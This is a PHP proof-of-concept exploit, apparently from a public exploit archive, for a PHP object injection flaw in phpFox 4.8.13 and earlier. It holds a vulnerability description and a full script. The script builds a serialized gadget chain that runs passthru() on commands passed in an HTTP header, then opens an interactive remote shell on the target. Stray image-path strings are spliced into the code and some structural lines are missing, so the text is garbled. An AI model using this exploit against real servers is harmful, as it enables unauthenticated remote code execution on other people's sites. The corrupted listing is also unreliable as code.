phpFox <= 4.8.13 (redirect) PHP Object Injection Vulnerability
    author..............: Egidio Romano aka EgiX
    mail................: n0b0d13s[at]gmail[dot]com
    software link.......:
    | This proof of concept code was written for educational purpose only.    |
    | Use it at your own risk. Author will be not responsible for any damage. |
    [-] Vulnerability Description:
    User input passed through the "url" request parameter to the /core/redirect route is
    not properly sanitized before being used in a call to the unserialize() PHP function.
    This can be exploited by remote, unauthenticated attackers to inject arbitrary PHP
    objects into the application scope, allowing them to perform a variety of attacks,
    such as executing arbitrary PHP code.
    [-] Original Advisory:


if (!extension_loaded("curl")) die("[+] cURL extension required!\n");

print "+---+\n";
print "| phpFox <= 4.8.13 (redirect) PHP Object Injection Exploit by EgiX |\n";
print "+---+\n";

if ($argc != 2) die("\nUsage: php $argv[0] <URL>\n\n");

function encode($string)
        $string = addslashes(gzcompress($string, 9));
        return urlencode(strtr(base64_encode($string), '+/=', '-_,'));

class Phpfox_Request
    private $_sName = "EgiX";
    private $_sPluginRequestGet = "print '_____'; passthru(base64_decode(\$_SERVER['HTTP_CMD'])); print '_____'; die;";class Core_Objectify
    private $__toString;
    function __construct($callback)
        $this->__toString = $callback;

print "\n[+] Launching shell on {$argv[1]}\n";

$popChain = serialize(new Core_Objectify([new Phpfox_Request, "get"]));
$popChain = str_replace('Core_Objectify', 'Core\Objectify',$popChain);

$ch = curl_init();

curl_setopt($ch, CURLOPT_URL, "{$argv[1]}index.php/core/redirect");
curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
curl_setopt($ch, CURLOPT_SSL_VERIFYPEER, false);
curl_setopt($ch, CURLOPT_POSTFIELDS, "url=".encode($popChain));

    print "\nphpFox-shell# ";
    if (($cmd = trim(fgets(STDIN))) == "exit") break;
    curl_setopt($ch, CURLOPT_HTTPHEADER, ["CMD: ".base64_encode($cmd)]);preg_match("/_____(.*)_____/s", curl_exec($ch), $m) ? print $m[1] :die("\n[+] Exploit failed!\n");